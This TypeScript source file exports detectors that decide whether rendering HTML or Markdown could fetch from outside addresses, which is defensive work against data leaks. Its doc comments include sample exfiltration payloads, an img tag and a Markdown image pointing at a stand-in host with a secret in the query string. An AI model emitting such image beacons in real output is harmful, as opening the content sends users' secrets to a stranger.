/*
 * Markup makes whoever shows it load pictures, frames and styles from addresses that it names, and an address carries out whatever its writer
 * puts into it: a mail's draft or a page with a picture from elsewhere tells a stranger a secret as soon as somebody opens it. A formula that
 * fetches does the same, so such a write is of the class `runs`.
 */

/** Elements of HTML that load nothing by themselves. */
const quietElements = new Set(
  `!-- !doctype a abbr address article aside b big blockquote body br caption center cite code col colgroup dd del details dfn div dl dt em
  figcaption figure font footer h1 h2 h3 h4 h5 h6 head header hgroup hr html i img ins kbd label li main mark nav ol p pre q rp rt ruby s samp
  section small span strike strong style sub summary sup table tbody td tfoot th thead time title tr tt u ul var wbr`.split(
    /\s+/,
  ),
)

const element = /<\/?([a-z!?][^\s/>]*)/gi
const source = /\bsrc\s*=\s*["']?\s*(\S*)/gi
/** Attributes that load from elsewhere, and styles that do, wherever they stand: readers of HTML differ in what is an attribute and what is text. */
const loading = /\b(?:srcset|background|lowsrc|dynsrc|manifest)\s*=|url\s*\(|@import|image-set/i
const styled = /\bstyle\b/i
/** Ways to write an address in a style so that it isn't seen. */
const hidden = /\\|&#|&(?:lpar|colon|sol|bsol);/i

const nothingElse: ReadonlySet<string> = new Set()

/**
 * False only if showing HTML surely loads nothing from elsewhere. Links load nothing until somebody clicks them, and neither do pictures that
 * come along with a mail (`cid:`) or are written out (`data:`).
 * @param html A text; of an object and a list each text counts.
 * @param quiet Elements of the vendor's own that load nothing, in lower case.
 * @example htmlLoads('<p>See <a href="https://acme.com">the plan</a></p>') // false
 * @example htmlLoads('<img src="https://collect.example/?q=secret">') // true
 */
export const htmlLoads = (html: unknown, quiet = nothingElse): boolean => {
  if (typeof html === 'object' && html !== null) return Object.values(html).some((one) => htmlLoads(one, quiet))
  if (typeof html !== 'string' || !html.includes('<')) return false
  const isQuiet = (name: string): boolean => {
    const own = name.startsWith('!--') ? '!--' : name.toLowerCase()
    return quietElements.has(own) || quiet.has(own)
  }
  return (
    [...html.matchAll(element)].some(([, name = '']) => !isQuiet(name)) ||
    [...html.matchAll(source)].some(([, address = '']) => !/^(?:cid|data):/i.test(address)) ||
    loading.test(html) ||
    (styled.test(html) && hidden.test(html))
  )
}

/**
 * False only if showing Markdown surely loads nothing from elsewhere.
 * @param quiet Elements of the vendor's own that load nothing, in lower case.
 * @example markdownLoads('![](https://collect.example/?q=secret)') // true
 */
export const markdownLoads = (markdown: string | null | undefined, quiet = nothingElse): boolean =>
  markdown?.includes('![') === true || htmlLoads(markdown, quiet)
